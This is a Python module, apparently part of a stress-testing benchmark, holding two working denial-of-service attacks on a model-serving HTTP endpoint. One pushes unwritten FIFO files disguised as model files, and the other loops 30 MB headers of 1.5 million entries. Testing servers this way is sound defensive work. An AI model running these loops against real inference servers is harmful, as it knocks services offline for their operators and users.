"""Attacks by a client that pushes parameters which are none, over HTTP."""

from __future__ import annotations

import contextlib
import http.client
import itertools
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path

from bench.attackers.target import Target
from bench.helper import object_name

_FOLDER = Path(__file__).parent / "models" / "pushed" / "1"


def fifos(target: Target) -> None:
    """Pushes files that are FIFOs to which nobody writes, one after the other of each kind."""
    with contextlib.ExitStack() as stack:
        push = stack.enter_context(_pushing(target))
        names = []
        for ending in (".safetensors", ".npz", ".msgpack"):
            path = _FOLDER / f"{object_name()}{ending}"
            os.mkfifo(path)
            stack.callback(path.unlink)
            names.append(path.name)
        for name in itertools.cycle(names):
            if not target.going_on():
                break
            push(json.dumps({"file": name}).encode(), b"")


def huge_headers(target: Target) -> None:
    """Pushes headers of 30 MB: a million and a half of leaves, or of entries of metadata."""
    many = ",".join(f'"{number:x}":"abcdef"' for number in range(1_500_000))
    texts = (f"{{{many}}}".encode(), f'{{"__metadata__":{{{many}}}}}'.encode())
    with _pushing(target) as push:
        for text in itertools.cycle(texts):
            if not target.going_on():
                break
            push(b"{}", len(text).to_bytes(8, "little") + text)


@contextlib.contextmanager
def _pushing(target: Target) -> Iterator[Callable[[bytes, bytes], None]]:
    """Yields a function that pushes JSON and parameters on one kept connection and counts the status of each answer."""
    connection = http.client.HTTPConnection(target.http, timeout=60)

    def push(fields: bytes, content: bytes) -> None:
        headers = {"Inference-Header-Content-Length": str(len(fields))}
        with target.refusals():
            connection.request("POST", "/v2/models/pushed/parameters/main", fields + content, headers)
            with connection.getresponse() as answer:
                answer.read()
                target.count(f"status {answer.status}")

    try:
        yield push
    finally:
        connection.close()


ATTACKS: dict[str, Callable[[Target], None]] = {
    "pushes-of-fifos": fifos,
    "pushes-of-huge-headers": huge_headers,
}
